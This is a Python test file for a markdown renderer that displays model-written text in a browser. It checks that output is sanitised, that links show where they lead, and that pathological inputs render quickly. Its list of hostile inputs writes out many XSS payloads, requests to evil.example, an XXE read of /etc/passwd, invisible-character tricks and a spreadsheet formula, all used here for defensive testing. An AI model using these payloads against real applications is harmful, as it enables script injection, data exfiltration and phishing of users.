"""What models write is hostile: none of it acts, loads, hides or takes long.

The browser has its own test of the same texts; here is what reaches it.
"""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest

from tropism.studio.markdown import _PLAIN, LONGEST, SHOWN, _parser, cut, plain, render

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body{background:url(//evil.example)}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<div style='background:url(//evil.example/x.png)'>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png \"t\")",
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<https://evil.example/\" onmouseover=\"alert(1)>",
    "[a](https://good.example/\"onmouseover=\"alert(1))",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | ![](http://evil.example) |",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "user\u202egpj.exe",
    "pass\u200bword\u2060\ufeff",
    "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "\u2066hidden\u2069 \u061c \u00ad",
    "\U000e0041\U000e0042 tags",
    "=HYPERLINK(\"http://evil.example\",\"click\")",
    "\x00 zero \x08 back",
    "a\u2028b\u2029c",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} {@html x}",
    "<a id=x name=y class=z href=https://ok.example onclick=alert(1)>x</a>",
]  # fmt: skip
assert len(HOSTILE) >= 40
ALLOWED = {"a": {"href", "rel", "target"}, "ol": {"start"}, "span": {"class", "title"}}
TAGS = {"a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre"}
TAGS |= {"s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul"}


class Seen(HTMLParser):
    """Every tag, attribute and text of a piece of HTML."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")


def check(markup: str) -> Seen:
    seen = Seen(markup)
    for tag, attributes in seen.tags:
        assert tag in TAGS, markup
        assert set(attributes) <= ALLOWED.get(tag, set()), markup
        if tag == "a":
            assert re.match(r"(https?|mailto):", attributes.get("href") or "https:"), markup
            assert "noopener" in (attributes["rel"] or "")
    return seen


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_acts_or_loads(text: str) -> None:
    seen = check(render(text))
    assert plain(seen.text) == seen.text  # and nothing is unseen


@pytest.mark.parametrize("text", HOSTILE)
def test_what_was_written_can_be_read(text: str) -> None:
    words = [word for word in re.findall(r"[A-Za-z]{4,}", text) if word not in ("https", "http", "javascript")]
    shown = render(text)
    assert not words or any(word in shown for word in words) or text.startswith(("[x]:", "!["))


def test_markdown_is_rendered() -> None:
    text = "# Title\n\n**bold** and *this*\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n~~no~~ `code`"
    tags = [tag for tag, _ in check(render(text)).tags]
    for tag in ("h1", "strong", "em", "ol", "li", "table", "td", "s", "code"):
        assert tag in tags


@pytest.mark.parametrize(
    "text", ["a plain answer, no more.", "A (b) c: 3.5 % of $4?", "x - y + z = 1/2; done", "It's so"]
)
def test_plain_text_is_what_the_parser_makes_of_it(text: str) -> None:
    assert _PLAIN.fullmatch(text)
    assert Seen(render(text)).text == Seen(_parser().render(text)).text == f"{text}\n"
    assert [tag for tag, _ in check(render(text)).tags] == ["p"]
    for other in (
        f"{text}*",
        f"- {text}",
        f"1. {text}",
        f"{text}\n{text}",
        f"<{text}",
        f"{text}\u200b.",
        f"    {text}",
    ):
        assert not _PLAIN.fullmatch(other)


def test_a_link_says_where_it_leads() -> None:
    seen = check(render("[your bank](https://evil.example/login) and <https://plain.example>"))
    assert "https://evil.example/login" in seen.text
    assert seen.text.count("https://plain.example") == 1


@pytest.mark.parametrize(
    ("text", "kept"),
    [("👩\u200d🔬", True), ("می\u200cخواهم", True), ("क्\u200dष", True), ("pass\u200dword", False), ("a\u200cb", False)],
)  # fmt: skip
def test_joiners_stay_where_a_script_needs_them(text: str, kept: bool) -> None:
    assert ("⟦" not in render(text)) == kept


def test_unseen_characters_are_numbered() -> None:
    assert '<span class="unseen" title="U+202E">⟦202E⟧</span>' in render("a\u202eb")
    assert plain("\x1b[2J") == "⟦001B⟧[2J"


SLOW = ["[" * 20_000, "*a" * 10_000, "> " * 10_000, "`" * 20_000, "|" * 20_000, "![" * 10_000, "<" * 20_000]
SLOW += ["a_" * 10_000, "~" * 20_000, "[a](" * 5_000, "- " * 10_000, "&" * 20_000, "\\" * 20_000, "\u202e" * 20_000]
SLOW += ["1. " * 6_000, "*" * 20_000, "_" * 20_000, "**a " * 5_000, "[]()" * 5_000, "x" * 10_000_000]


@pytest.mark.parametrize("text", SLOW, ids=[text[:4] for text in SLOW])
def test_no_text_takes_long(text: str) -> None:
    began = time.perf_counter()
    made = render.__wrapped__(text)
    assert time.perf_counter() - began < 3.0
    assert len(made) < 3_000_000
    check(made)


def test_a_long_text_is_plain_and_a_longer_one_cut() -> None:
    assert render("# x " * LONGEST).startswith("<pre># x")
    assert cut("x" * SHOWN) is None
    assert cut("x" * (SHOWN + 5)) == SHOWN + 5
    assert len(Seen(render("x" * (SHOWN + 5))).text.strip()) == SHOWN
